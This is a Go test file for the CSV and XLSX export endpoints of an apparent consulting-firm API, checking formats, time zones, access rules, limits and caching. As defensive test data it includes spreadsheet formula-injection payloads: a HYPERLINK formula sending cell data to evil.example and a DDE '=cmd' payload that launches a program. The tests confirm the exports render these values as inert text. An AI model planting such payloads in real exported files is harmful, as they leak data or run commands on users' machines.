package app_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"math/big"
	"net/http"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/consultantpro/consultantpro/internal/config"
	"github.com/consultantpro/consultantpro/internal/testkit"
	"github.com/xuri/excelize/v2"
)

// The export content types and headers of SPEC §12, spelled out.
const (
	csvType  = "text/csv; charset=utf-8"
	xlsxType = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
)

// formulaNames are client names a spreadsheet would run as formulas if written as they are.
// (The API trims names and notes, so a leading tab or carriage return is tested in
// internal/api's unit tests.)
var formulaNames = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"click")`,
	"+1+2 Partners",
	"-3+4 Holdings",
	"@SUM(1,2) Group",
}

// exportServer is a frozen-clock server with one firm in Pacific/Auckland, where 2026-12-03
// 12:00 UTC is already 2026-12-04.
func exportServer(t *testing.T, configure func(*config.Config)) (*testkit.API, *testkit.Firm) {
	t.Helper()
	s := testkit.StartAPI(t, testkit.APIOptions{FrozenAt: time.Date(2026, 12, 3, 12, 0, 0, 0, time.UTC), Configure: configure})
	f := s.RegisterFirm(t)
	f.Settings(t, map[string]any{"timezone": "Pacific/Auckland"})
	return s, f
}

// download GETs path with the token and the Accept header and returns the response.
func download(t *testing.T, s *testkit.API, token, path, accept string) *testkit.Response {
	t.Helper()
	req, err := http.NewRequest(http.MethodGet, s.Srv.URL+path, nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+token)
	if accept != "" {
		req.Header.Set("Accept", accept)
	}
	res, err := s.Srv.Client().Do(req)
	if err != nil {
		t.Fatalf("GET %s: %v", path, err)
	}
	defer res.Body.Close()
	body, err := io.ReadAll(res.Body)
	if err != nil {
		t.Fatalf("GET %s: read: %v", path, err)
	}
	return &testkit.Response{Method: http.MethodGet, Path: path, Status: res.StatusCode, Header: res.Header, Body: body}
}

// seedClients creates clients with the formula-like names and a few plain ones, some with an
// annual revenue.
func seedClients(t *testing.T, s *testkit.API, token string) {
	t.Helper()
	for i, name := range append([]string{"Plain, \"Quoted\" Co", "Zeta\nLines Ltd"}, formulaNames...) {
		body := map[string]any{"company_name": name, "primary_contact_name": "Grace Hopper",
			"primary_contact_email": fmt.Sprintf("grace%d@client.example", i), "status": "active"}
		if i%2 == 0 {
			body["annual_revenue"] = fmt.Sprintf("%d.5%d", 1000+i, i)
		}
		if i == 3 {
			body["status"] = "inactive"
		}
		if i == 4 {
			body["notes"] = "=1+1"
		}
		testkit.WantStatus(t, s.Do(t, http.MethodPost, "/api/v1/crm/clients/", token, body), http.StatusCreated)
	}
}

// jsonList GETs every row of a JSON list (page_size 200) and returns its rows in order, each
// as its keys in order and its values.
func jsonList(t *testing.T, s *testkit.API, token, path, query string) ([]string, []map[string]any) {
	t.Helper()
	r := s.Do(t, http.MethodGet, path+"?page_size=200&"+query, token, nil)
	testkit.WantStatus(t, r, http.StatusOK)
	var page struct {
		Count   int               `json:"count"`
		Results []json.RawMessage `json:"results"`
	}
	testkit.Decode(t, r, &page)
	if page.Count != len(page.Results) {
		t.Fatalf("list %s has %d rows in all, more than one page", path, page.Count)
	}
	var keys []string
	rows := make([]map[string]any, len(page.Results))
	for i, raw := range page.Results {
		dec := json.NewDecoder(bytes.NewReader(raw))
		dec.UseNumber()
		if err := dec.Decode(&rows[i]); err != nil {
			t.Fatal(err)
		}
		if i == 0 {
			keys = objectKeys(t, raw)
		}
	}
	return keys, rows
}

// objectKeys is the keys of a JSON object, in order.
func objectKeys(t *testing.T, raw json.RawMessage) []string {
	t.Helper()
	dec := json.NewDecoder(bytes.NewReader(raw))
	if _, err := dec.Token(); err != nil {
		t.Fatal(err)
	}
	var keys []string
	for dec.More() {
		k, err := dec.Token()
		if err != nil {
			t.Fatal(err)
		}
		keys = append(keys, k.(string))
		var skip json.RawMessage
		if err := dec.Decode(&skip); err != nil {
			t.Fatal(err)
		}
	}
	return keys
}

// header is the column header of a JSON field, as the exports write it.
func header(name string) string {
	words := strings.Split(name, "_")
	for i, w := range words {
		switch {
		case w == "id":
			words[i] = "ID"
		case i == 0:
			words[i] = strings.ToUpper(w[:1]) + w[1:]
		}
	}
	return strings.Join(words, " ")
}

var (
	dateText  = regexp.MustCompile(`^\d{4}-\d{2}-\d{2}$`)
	stampText = regexp.MustCompile(`^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?Z$`)
)

// guarded is a text cell as the CSV export writes it (SPEC §12: no formula can run).
func guarded(s string) string {
	if s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) {
		return "'" + s
	}
	return s
}

// checkCSV checks a CSV export against the JSON list of the same query: the header row is the
// JSON fields' headers in order, and each row's cells are the JSON values (times in zone, text
// guarded against formulas).
func checkCSV(t *testing.T, body []byte, keys []string, rows []map[string]any, zone *time.Location) {
	t.Helper()
	records, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("CSV does not parse: %v\n%s", err, body)
	}
	if !bytes.Contains(body, []byte("\r\n")) {
		t.Error("CSV lines do not end in CRLF (RFC 4180)")
	}
	if len(records) != len(rows)+1 {
		t.Fatalf("CSV has %d records, want a header and %d rows", len(records), len(rows))
	}
	for i, k := range keys {
		if records[0][i] != header(k) {
			t.Errorf("CSV header %d = %q, want %q", i, records[0][i], header(k))
		}
	}
	for r, row := range rows {
		for i, k := range keys {
			got := records[r+1][i]
			if want := csvCell(t, k, row[k], zone); got != want {
				t.Errorf("CSV row %d %s = %q, want %q", r+1, k, got, want)
			}
		}
	}
}

func csvCell(t *testing.T, key string, v any, zone *time.Location) string {
	switch v := v.(type) {
	case nil:
		return ""
	case bool:
		return fmt.Sprint(v)
	case json.Number:
		return v.String()
	case string:
		if stampText.MatchString(v) {
			return testkit.Stamp(t, v).In(zone).Format(time.RFC3339)
		}
		return guarded(v)
	}
	raw, _ := json.Marshal(v)
	return guarded(string(raw))
}

// checkXLSX checks an XLSX export against the JSON list: headers, no formula anywhere, text
// as it is, the named number columns as exact numbers in a number format (currency code in
// the format for money), dates and times as dates (times in zone).
func checkXLSX(t *testing.T, body []byte, keys []string, rows []map[string]any, zone *time.Location, money, decimals []string) {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(body))
	if err != nil {
		t.Fatalf("XLSX does not open: %v", err)
	}
	defer f.Close()
	sheet := f.GetSheetList()[0]
	got, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != len(rows)+1 {
		t.Fatalf("XLSX has %d rows, want a header and %d rows", len(got), len(rows))
	}
	for r := range got {
		for c := range keys {
			ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
			if formula, err := f.GetCellFormula(sheet, ref); err != nil || formula != "" {
				t.Errorf("XLSX cell %s holds a formula %q (%v)", ref, formula, err)
			}
		}
	}
	for i, k := range keys {
		if cell(got, 0, i) != header(k) {
			t.Errorf("XLSX header %d = %q, want %q", i, cell(got, 0, i), header(k))
		}
	}
	is := func(list []string, k string) bool {
		return strings.Contains(","+strings.Join(list, ",")+",", ","+k+",")
	}
	for r, row := range rows {
		for i, k := range keys {
			raw := cell(got, r+1, i)
			ref, _ := excelize.CoordinatesToCellName(i+1, r+2)
			switch v := row[k].(type) {
			case nil:
				if raw != "" {
					t.Errorf("XLSX %s %s = %q, want empty", ref, k, raw)
				}
			case bool:
				if want := map[bool]string{true: "1", false: "0"}[v]; raw != want {
					t.Errorf("XLSX %s %s = %q, want %q", ref, k, raw, want)
				}
			case string:
				switch {
				case is(money, k) || is(decimals, k):
					want, _ := new(big.Rat).SetString(v)
					gotN, ok := new(big.Rat).SetString(raw)
					if !ok || gotN.Cmp(want) != 0 {
						t.Errorf("XLSX %s %s = %q, want the number %s", ref, k, raw, v)
					}
					nf := numFmt(t, f, sheet, ref)
					if nf == "" || (is(money, k) && !strings.HasSuffix(nf, ` "`+row["currency"].(string)+`"`)) {
						t.Errorf("XLSX %s %s has no number format with its currency: %q", ref, k, nf)
					}
				case stampText.MatchString(v):
					tm, err := excelize.ExcelDateToTime(mustFloat(t, raw), false)
					want := testkit.Stamp(t, v).In(zone)
					if err != nil || tm.Format(time.DateTime) != want.Format(time.DateTime) {
						t.Errorf("XLSX %s %s = %v, want %s (the firm's time)", ref, k, tm, want.Format(time.DateTime))
					}
					if nf := numFmt(t, f, sheet, ref); nf != "yyyy-mm-dd hh:mm:ss" {
						t.Errorf("XLSX %s %s has the number format %q, want a date and time", ref, k, nf)
					}
				case dateText.MatchString(v):
					tm, err := excelize.ExcelDateToTime(mustFloat(t, raw), false)
					if err != nil || tm.Format(time.DateOnly) != v {
						t.Errorf("XLSX %s %s = %q, want the date %s", ref, k, raw, v)
					}
					if nf := numFmt(t, f, sheet, ref); nf != "yyyy-mm-dd" {
						t.Errorf("XLSX %s %s has the number format %q, want a date", ref, k, nf)
					}
				default:
					if raw != v {
						t.Errorf("XLSX %s %s = %q, want %q", ref, k, raw, v)
					}
				}
			}
		}
	}
}

// numFmt is the custom number format of cell ref ("" when it has none).
func numFmt(t *testing.T, f *excelize.File, sheet, ref string) string {
	t.Helper()
	id, err := f.GetCellStyle(sheet, ref)
	if err != nil {
		t.Fatalf("XLSX %s style: %v", ref, err)
	}
	st, err := f.GetStyle(id)
	if err != nil || st == nil || st.CustomNumFmt == nil {
		return ""
	}
	return *st.CustomNumFmt
}

func cell(rows [][]string, r, c int) string {
	if c < len(rows[r]) {
		return rows[r][c]
	}
	return ""
}

func mustFloat(t *testing.T, s string) float64 {
	t.Helper()
	var f float64
	if _, err := fmt.Sscan(s, &f); err != nil {
		t.Errorf("%q is not a number", s)
	}
	return f
}

func auckland(t *testing.T) *time.Location {
	loc, err := time.LoadLocation("Pacific/Auckland")
	if err != nil {
		t.Fatal(err)
	}
	return loc
}

func TestExportClientsMatchesTheJSONList(t *testing.T) {
	t.Parallel()
	s, f := exportServer(t, nil)
	seedClients(t, s, f.Owner.Token)
	g := s.RegisterFirm(t)
	seedClients(t, s, g.Owner.Token) // the same names in another firm

	for _, query := range []string{"", "status=active&ordering=company_name", "search=ltd&ordering=-company_name"} {
		t.Run("query "+query, func(t *testing.T) {
			keys, rows := jsonList(t, s, f.Owner.Token, "/api/v1/crm/clients/", query)
			if len(rows) == 0 {
				t.Fatal("the JSON list is empty")
			}
			r := download(t, s, f.Owner.Token, "/api/v1/crm/clients/?format=csv&page=1&page_size=1&"+query, "")
			testkit.WantStatus(t, r, http.StatusOK)
			if ct := r.Header.Get("Content-Type"); ct != csvType {
				t.Errorf("Content-Type = %q, want %q", ct, csvType)
			}
			if cd := r.Header.Get("Content-Disposition"); cd != `attachment; filename=clients-2026-12-04.csv` &&
				cd != `attachment; filename="clients-2026-12-04.csv"` {
				t.Errorf("Content-Disposition = %q, want the firm's today in the file name", cd)
			}
			checkCSV(t, r.Body, keys, rows, auckland(t))

			r = download(t, s, f.Owner.Token, "/api/v1/crm/clients/?format=xlsx&"+query, "")
			testkit.WantStatus(t, r, http.StatusOK)
			if ct := r.Header.Get("Content-Type"); ct != xlsxType {
				t.Errorf("Content-Type = %q, want %q", ct, xlsxType)
			}
			if cd := r.Header.Get("Content-Disposition"); !strings.Contains(cd, "clients-2026-12-04.xlsx") {
				t.Errorf("Content-Disposition = %q", cd)
			}
			checkXLSX(t, r.Body, keys, rows, auckland(t), []string{"annual_revenue"}, nil)
		})
	}
}

func TestExportFormulaNamesAreText(t *testing.T) {
	t.Parallel()
	s, f := exportServer(t, nil)
	seedClients(t, s, f.Owner.Token)
	r := download(t, s, f.Owner.Token, "/api/v1/crm/clients/?format=csv&ordering=company_name", "")
	testkit.WantStatus(t, r, http.StatusOK)
	records, err := csv.NewReader(bytes.NewReader(r.Body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	names := map[string]bool{}
	for _, rec := range records[1:] {
		names[rec[1]] = true
	}
	for _, n := range formulaNames {
		if !names["'"+n] {
			t.Errorf("CSV: %q is not written as text (a leading apostrophe); names: %v", n, names)
		}
	}
	r = download(t, s, f.Owner.Token, "/api/v1/crm/clients/?format=xlsx", "")
	testkit.WantStatus(t, r, http.StatusOK)
	x, err := excelize.OpenReader(bytes.NewReader(r.Body))
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	sheet := x.GetSheetList()[0]
	rows, _ := x.GetRows(sheet)
	found := map[string]bool{}
	for i, row := range rows {
		for j := range row {
			ref, _ := excelize.CoordinatesToCellName(j+1, i+1)
			if formula, _ := x.GetCellFormula(sheet, ref); formula != "" {
				t.Errorf("XLSX %s is a formula: %q", ref, formula)
			}
		}
		if len(row) > 1 {
			found[row[1]] = true
		}
	}
	for _, n := range formulaNames {
		if !found[n] {
			t.Errorf("XLSX: %q is not a text cell with the name as it is", n)
		}
	}
}

func TestExportTimeEntriesMatchesTheJSONList(t *testing.T) {
	t.Parallel()
	s, f := exportServer(t, nil)
	r := s.Do(t, http.MethodPost, "/api/v1/crm/clients/", f.Owner.Token, map[string]any{"company_name": "Acme",
		"primary_contact_name": "Ada", "primary_contact_email": "ada@acme.example"})
	testkit.WantStatus(t, r, http.StatusCreated)
	client := testkit.Object(t, r)["id"].(string)
	r = s.Do(t, http.MethodPost, "/api/v1/projects/projects/", f.Owner.Token, map[string]any{"client": client,
		"name": "Audit", "start_date": "2026-01-01", "end_date": "2026-12-31", "hourly_rate": "150.00"})
	testkit.WantStatus(t, r, http.StatusCreated)
	project := testkit.Object(t, r)["id"].(string)
	consultant := f.AddUser(t, "consultant")
	for i, tok := range []string{f.Owner.Token, consultant.Token, consultant.Token, f.Owner.Token} {
		body := map[string]any{"project": project, "date": fmt.Sprintf("2026-11-%02d", 10+i),
			"hours": fmt.Sprintf("%d.25", i+1), "description": []string{"Fieldwork", "=cmd|' /C calc'!A0", "-Review", "Report"}[i],
			"is_billable": i != 2}
		if i == 3 {
			body["hourly_rate"] = "99.99"
		}
		testkit.WantStatus(t, s.Do(t, http.MethodPost, "/api/v1/projects/time-entries/", tok, body), http.StatusCreated)
	}
	// A consultant's export holds what their list holds.
	for _, who := range []testkit.User{f.Owner, consultant} {
		for _, query := range []string{"", "is_billable=true&ordering=date", "user=" + consultant.ID, "search=review"} {
			t.Run(who.Role+" "+query, func(t *testing.T) {
				keys, rows := jsonList(t, s, who.Token, "/api/v1/projects/time-entries/", query)
				r := download(t, s, who.Token, "/api/v1/projects/time-entries/?"+query, "text/csv")
				testkit.WantStatus(t, r, http.StatusOK)
				if cd := r.Header.Get("Content-Disposition"); !strings.Contains(cd, "time-entries-2026-12-04.csv") {
					t.Errorf("Content-Disposition = %q", cd)
				}
				checkCSV(t, r.Body, keys, rows, auckland(t))
				r = download(t, s, who.Token, "/api/v1/projects/time-entries/?"+query, xlsxType)
				testkit.WantStatus(t, r, http.StatusOK)
				checkXLSX(t, r.Body, keys, rows, auckland(t), []string{"hourly_rate", "billed_amount"}, []string{"hours"})
			})
		}
	}
}

func TestExportAccess(t *testing.T) {
	t.Parallel()
	s, f := exportServer(t, nil)
	consultant := f.AddUser(t, "consultant")
	for _, format := range []string{"csv", "xlsx"} {
		r := download(t, s, consultant.Token, "/api/v1/finance/invoices/?format="+format, "")
		testkit.WantError(t, r, http.StatusForbidden, "PermissionDenied", "FORBIDDEN")
		r = download(t, s, "", "/api/v1/crm/clients/?format="+format, "")
		testkit.WantStatus(t, r, http.StatusUnauthorized)
	}
	// Another firm's rows never appear.
	g := s.RegisterFirm(t)
	seedClients(t, s, g.Owner.Token)
	r := download(t, s, f.Owner.Token, "/api/v1/crm/clients/?format=csv", "")
	testkit.WantStatus(t, r, http.StatusOK)
	if records, _ := csv.NewReader(bytes.NewReader(r.Body)).ReadAll(); len(records) != 1 {
		t.Errorf("the export of a firm without clients has %d records, want the header only", len(records))
	}
}

func TestExportFormatParameter(t *testing.T) {
	t.Parallel()
	s, f := exportServer(t, nil)
	r := download(t, s, f.Owner.Token, "/api/v1/crm/clients/?format=pdf", "")
	env := testkit.WantError(t, r, http.StatusBadRequest, "ParseError", "BAD_REQUEST")
	if len(env.Error.Details["format"]) != 1 {
		t.Errorf("details = %v, want the format parameter", env.Error.Details)
	}
	// Bad list parameters are reported as for the JSON list.
	r = download(t, s, f.Owner.Token, "/api/v1/crm/clients/?format=csv&ordering=nope", "")
	env = testkit.WantError(t, r, http.StatusBadRequest, "ParseError", "BAD_REQUEST")
	if len(env.Error.Details["ordering"]) != 1 {
		t.Errorf("details = %v, want ordering", env.Error.Details)
	}
	// JSON stays the default, by parameter and by Accept.
	for _, tc := range []struct{ query, accept, want string }{
		{"?format=json", "", "application/json; charset=utf-8"},
		{"", "application/json", "application/json; charset=utf-8"},
		{"", "*/*", "application/json; charset=utf-8"},
		{"", "text/csv", csvType},
		{"", xlsxType, xlsxType},
		{"", "application/json;q=0.5, text/csv", csvType},
		{"", "text/csv;q=0.2, application/json", "application/json; charset=utf-8"},
		{"?format=json", "text/csv", "application/json; charset=utf-8"},
		{"?format=xlsx", "text/csv", xlsxType},
	} {
		r := download(t, s, f.Owner.Token, "/api/v1/crm/clients/"+tc.query, tc.accept)
		testkit.WantStatus(t, r, http.StatusOK)
		if ct := r.Header.Get("Content-Type"); ct != tc.want {
			t.Errorf("%s Accept %q: Content-Type %q, want %q", tc.query, tc.accept, ct, tc.want)
		}
	}
	// Other operations do not export: a detail answers JSON.
	seedClients(t, s, f.Owner.Token)
	_, rows := jsonList(t, s, f.Owner.Token, "/api/v1/crm/clients/", "")
	r = download(t, s, f.Owner.Token, "/api/v1/crm/clients/"+rows[0]["id"].(string)+"/?format=csv", "")
	testkit.WantStatus(t, r, http.StatusOK)
	if ct := r.Header.Get("Content-Type"); ct != "application/json; charset=utf-8" {
		t.Errorf("a detail with ?format=csv answered %q", ct)
	}
}

func TestExportMaxRows(t *testing.T) {
	t.Parallel()
	s, f := exportServer(t, func(c *config.Config) { c.ExportMaxRows = 5 })
	seedClients(t, s, f.Owner.Token) // 6 clients, 5 of them active
	for _, format := range []string{"csv", "xlsx"} {
		r := download(t, s, f.Owner.Token, "/api/v1/crm/clients/?format="+format, "")
		env := testkit.WantError(t, r, http.StatusBadRequest, "ValidationError", "VALIDATION_ERROR")
		if want := "This export would hold 6 rows, more than the limit of 5. Narrow it with filters."; env.Error.Message != want {
			t.Errorf("message = %q, want %q", env.Error.Message, want)
		}
		// Filtered under the limit, it goes through.
		testkit.WantStatus(t, download(t, s, f.Owner.Token, "/api/v1/crm/clients/?status=active&format="+format, ""), http.StatusOK)
	}
}

func TestExportThrottledLikeUploads(t *testing.T) {
	t.Parallel()
	s, f := exportServer(t, func(c *config.Config) { c.RateUpload = "2/hour" })
	for i := range 2 {
		r := download(t, s, f.Owner.Token, "/api/v1/crm/clients/?format=csv", "")
		testkit.WantStatus(t, r, http.StatusOK)
		if got, want := r.Header.Get("X-RateLimit-Remaining"), fmt.Sprint(1-i); got != want {
			t.Errorf("export %d: X-RateLimit-Remaining %q, want %q", i+1, got, want)
		}
	}
	r := download(t, s, f.Owner.Token, "/api/v1/projects/time-entries/?format=xlsx", "")
	testkit.WantError(t, r, http.StatusTooManyRequests, "Throttled", "TOO_MANY_REQUESTS")
	if r.Header.Get("Retry-After") == "" {
		t.Error("429 without Retry-After")
	}
	// The JSON list is not an export.
	testkit.WantStatus(t, download(t, s, f.Owner.Token, "/api/v1/crm/clients/", ""), http.StatusOK)
}

func TestExportBypassesTheResponseCache(t *testing.T) {
	t.Parallel()
	s, f := exportServer(t, withOwnCache(t, 5))
	if !s.Srv.App.API.CacheEnabled() {
		t.Fatal("the response cache is off")
	}
	seedClients(t, s, f.Owner.Token)
	cacheLines := func() string {
		var lines []string
		for _, l := range strings.Split(scrape(t, s.Srv.URL), "\n") {
			if strings.HasPrefix(l, "consultantpro_response_cache_total{") {
				lines = append(lines, l)
			}
		}
		return strings.Join(lines, "\n")
	}
	// A JSON list goes through the cache (a miss, then a hit) ...
	testkit.WantStatus(t, download(t, s, f.Owner.Token, "/api/v1/crm/clients/", ""), http.StatusOK)
	testkit.WantStatus(t, download(t, s, f.Owner.Token, "/api/v1/crm/clients/", ""), http.StatusOK)
	before := cacheLines()
	if !strings.Contains(before, `result="hit"`) {
		t.Fatalf("the JSON list was not cached:\n%s", before)
	}
	// ... an export never does: it is neither looked up nor stored.
	for _, accept := range []string{"text/csv", xlsxType, "text/csv"} {
		for _, path := range []string{"/api/v1/crm/clients/", "/api/crm/clients"} {
			r := download(t, s, f.Owner.Token, path, accept)
			testkit.WantStatus(t, r, http.StatusOK)
			want := map[string]string{"text/csv": csvType, xlsxType: xlsxType}[accept]
			if ct := r.Header.Get("Content-Type"); ct != want {
				t.Errorf("%s Accept %s: Content-Type %q, want %q", path, accept, ct, want)
			}
		}
	}
	if after := cacheLines(); after != before {
		t.Errorf("exports went through the response cache:\nbefore\n%s\nafter\n%s", before, after)
	}
	r := download(t, s, f.Owner.Token, "/api/v1/crm/clients/", "")
	if ct := r.Header.Get("Content-Type"); ct != "application/json; charset=utf-8" {
		t.Errorf("the JSON list after exports answered %q", ct)
	}
}

func TestExportChildList(t *testing.T) {
	t.Parallel()
	s, f := exportServer(t, nil)
	r := download(t, s, f.Owner.Token, "/api/v1/finance/invoices/0193a3b0-0000-7000-8000-000000000000/payments/?format=csv", "")
	testkit.WantNotFound(t, r)
}

func TestExportOtherLists(t *testing.T) {
	t.Parallel()
	s, f := exportServer(t, nil)
	f.AddUser(t, "consultant")
	for _, path := range []string{"/api/v1/firm/users/", "/api/v1/finance/ledger/accounts/"} {
		keys, rows := jsonList(t, s, f.Owner.Token, path, "")
		r := download(t, s, f.Owner.Token, path+"?format=csv", "")
		testkit.WantStatus(t, r, http.StatusOK)
		checkCSV(t, r.Body, keys, rows, auckland(t))
	}
	keys, rows := jsonList(t, s, f.Owner.Token, "/api/v1/finance/ledger/accounts/", "as_of=2026-01-01")
	r := download(t, s, f.Owner.Token, "/api/v1/finance/ledger/accounts/?format=xlsx&as_of=2026-01-01", "")
	testkit.WantStatus(t, r, http.StatusOK)
	checkXLSX(t, r.Body, keys, rows, auckland(t), nil, nil)
	manager := f.AddUser(t, "manager")
	testkit.WantForbidden(t, download(t, s, manager.Token, "/api/v1/firm/users/?format=csv", ""))
}

// TestOpenAPIDeclaresExports checks that every list (and only a list) documents the format
// parameter and the CSV and XLSX bodies of its 200 answer.
func TestOpenAPIDeclaresExports(t *testing.T) {
	t.Parallel()
	s := testkit.StartAPI(t, testkit.APIOptions{})
	r := s.Do(t, http.MethodGet, "/api/schema/", "", nil)
	testkit.WantStatus(t, r, http.StatusOK)
	var doc struct {
		Paths map[string]map[string]struct {
			OperationID string `json:"operationId"`
			Parameters  []struct {
				Name   string `json:"name"`
				In     string `json:"in"`
				Schema struct {
					Enum []string `json:"enum"`
				} `json:"schema"`
			} `json:"parameters"`
			Responses map[string]struct {
				Content map[string]json.RawMessage `json:"content"`
				Headers map[string]json.RawMessage `json:"headers"`
			} `json:"responses"`
		} `json:"paths"`
	}
	testkit.Decode(t, r, &doc)
	lists := 0
	for path, ops := range doc.Paths {
		for method, op := range ops {
			isList := strings.HasPrefix(op.OperationID, "list-")
			var format []string
			declared := false
			for _, p := range op.Parameters {
				if p.Name == "format" && p.In == "query" {
					declared, format = true, p.Schema.Enum
				}
			}
			if !isList {
				if declared {
					t.Errorf("%s %s (%s) declares format but is not a list", method, path, op.OperationID)
				}
				continue
			}
			lists++
			if fmt.Sprint(format) != "[json csv xlsx]" {
				t.Errorf("%s: format enum %v, want [json csv xlsx]", op.OperationID, format)
			}
			ok := op.Responses["200"]
			for _, ct := range []string{"application/json", "text/csv", xlsxType} {
				if ok.Content[ct] == nil {
					t.Errorf("%s: 200 does not declare %s", op.OperationID, ct)
				}
			}
			if ok.Headers["Content-Disposition"] == nil {
				t.Errorf("%s: 200 does not declare Content-Disposition", op.OperationID)
			}
		}
	}
	if lists < 15 {
		t.Errorf("found %d list operations, want every list (15 or more)", lists)
	}
}
